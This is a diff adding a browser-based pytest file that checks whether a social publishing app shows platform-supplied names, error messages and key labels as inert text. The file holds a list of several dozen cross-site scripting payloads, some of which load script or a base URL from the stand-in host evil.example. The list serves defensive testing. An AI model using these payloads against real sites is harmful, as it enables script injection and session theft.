@@ -1,0 +1,135 @@
+"""What users and platforms have written, on pages in a real browser: it stands there as text, and nothing runs."""
+
+from __future__ import annotations
+
+import json
+from collections.abc import Callable, Iterator
+
+import pytest
+
+from socialpub.domain.people import tenancy
+from socialpub.platforms.contract import Identity, Tokens
+from socialpub.simulator.server import SimulatorThread
+from socialpub.store.db import Tx
+from socialpub.store.models import Account
+from tests.browser.chromium import Tab, chromium
+from tests.domain.connect_kit import Office, open_office
+from tests.kit import Server
+
+pytestmark = pytest.mark.browser
+
+RUN = "window.ran=1"
+HOSTILE = [
+    f"<script>{RUN}</script>",
+    f"</th><script>{RUN}</script>",
+    f"</title><script>{RUN}</script>",
+    f"</textarea><script>{RUN}</script>",
+    f"--><script>{RUN}</script>",
+    f"]]><script>{RUN}</script>",
+    f"<SCRIPT>{RUN}</SCRIPT>",
+    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
+    f"<script\t>{RUN}</script >",
+    f"<script/x>{RUN}</script>",
+    f"<script src=data:text/javascript,{RUN}></script>",
+    "<script src=//evil.example/x.js></script>",
+    f"<img src=x onerror={RUN}>",
+    f'"><img src=x onerror={RUN}>',
+    f"'><img src=x onerror='{RUN}'>",
+    f"`><img src=x onerror=`{RUN}`>",
+    f"<img src=x:x onerror\t=\t{RUN}>",
+    f"<img/src=x/onerror={RUN}>",
+    f"<image src=x onerror={RUN}>",
+    f"<svg onload={RUN}>",
+    f"<svg/onload={RUN}>",
+    f"<svg><script>{RUN}</script></svg>",
+    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
+    f"<math><mtext><img src=x onerror={RUN}></mtext></math>",
+    f"<body onload={RUN}>",
+    f"<iframe srcdoc='<script>parent.{RUN}</script>'>",
+    f"<iframe src=javascript:parent.{RUN}>",
+    f"<object data=javascript:{RUN}>",
+    f"<embed src=javascript:{RUN}>",
+    f"<a href=javascript:{RUN} autofocus onfocus={RUN}>x</a>",
+    f'" autofocus onfocus={RUN} x="',
+    f"' autofocus onfocus={RUN} x='",
+    f"<input autofocus onfocus={RUN}>",
+    f"<details open ontoggle={RUN}>",
+    f"<video><source onerror={RUN}></video>",
+    f"<form><button formaction=javascript:{RUN}>x</button></form>",
+    f"<meta http-equiv=refresh content='0;url=javascript:{RUN}'>",
+    "<base href=//evil.example/>",
+    f"<style>@import'//evil.example/x';</style><style onload={RUN}></style>",
+    f"<template><script>{RUN}</script></template>",
+    f"&lt;script&gt;{RUN}&lt;/script&gt;",
+    f"&#60;script&#62;{RUN}&#60;/script&#62;",
+    f"\\u003cscript\\u003e{RUN}\\u003c/script\\u003e",
+    f"{{{{ ''.__class__ }}}}{{% raw %}}${{{RUN}}}",
+    f"+ADw-script+AD4-{RUN}+ADw-/script+AD4-",
+    f"\u202e<script>{RUN}</script>",
+    f"＜script＞{RUN}＜/script＞",
+]
+MADE = "script, img, image, iframe, object, embed, math, svg, video, details, base, template, main style, main meta"
+
+
+@pytest.fixture(scope="module")
+def tab() -> Iterator[Tab]:
+    with chromium() as tab:
+        yield tab
+
+
+@pytest.fixture
+def office(
+    make_server: Callable[..., Server], lab: SimulatorThread, monkeypatch: pytest.MonkeyPatch, tab: Tab
+) -> Office:
+    opened = open_office(make_server, lab, monkeypatch, "threads")
+    tab.send("Network.setCookie", name="socialpub_session", value="alice", url=opened.server.url)
+    return opened
+
+
+def test_the_strings_are_enough_and_would_run(tab: Tab) -> None:
+    """Where nothing is escaped, the first of them does: this test sees what it is there to see."""
+    assert len(set(HOSTILE)) >= 40
+    tab.show(f"data:text/html,<title>t</title><main>{HOSTILE[0]}</main>", width=1000)
+    assert tab.ask("window.ran") == 1
+
+
+def test_names_and_words_of_platforms_stand_on_the_start_page_as_they_are(tab: Tab, office: Office) -> None:
+    server, alice = office.server, office.alice
+    accounts = [
+        server._keep(alice, str(number), "threads", Identity(f"t{number}", text), Tokens("made-up"))
+        for number, text in enumerate(HOSTILE)
+    ]
+
+    def write(tx: Tx) -> None:
+        for account, text in zip(accounts, HOSTILE, strict=True):
+            said = {"code": "platform_auth_failed", "message": text, "at": server.clock.now_ms()}
+            Account.update(attention=json.dumps(said)).where(Account.id == account["id"]).execute()
+            tenancy.mint_key(server.service, tx, alice.organization, profile=None, name=text, label="live")
+
+    server.service.write(write).result()
+    tab.show(f"{server.url}/", width=1000)
+    for cells, where in ((HOSTILE, "tbody th"), (HOSTILE, "tbody .problem")):
+        shown = tab.ask(f"[...document.querySelectorAll({where!r})].map(cell => cell.textContent)")
+        assert set(cells) <= set(shown)
+    looks_harmless(tab, server)
+
+
+@pytest.mark.parametrize("text", HOSTILE[::6])
+def test_a_name_that_a_platform_tells_while_connecting_is_text(tab: Tab, office: Office, text: str) -> None:
+    office.login_exists(displayName=text)
+    tab.show(f"{office.server.url}/connect/threads", width=1000)
+    tab.click("#go")
+    assert tab.ask("document.querySelector('#connected').textContent") in (
+        text,
+        office.rows()[0]["platform_account_id"],
+    )
+    assert office.rows()[0]["display_name"] == text
+    looks_harmless(tab, office.server)
+
+
+def looks_harmless(tab: Tab, server: Server) -> None:
+    """Nothing ran, nothing tried to (the policy would have complained), and nothing was asked of anybody else."""
+    assert tab.ask("window.ran") is None
+    assert tab.complaints == []
+    assert tab.ask(f"[...document.querySelectorAll('{MADE}')].map(found => found.outerHTML)") == []
+    assert all(url.startswith((server.url, server.lab.origin("threads"))) for url in tab.asked), tab.asked
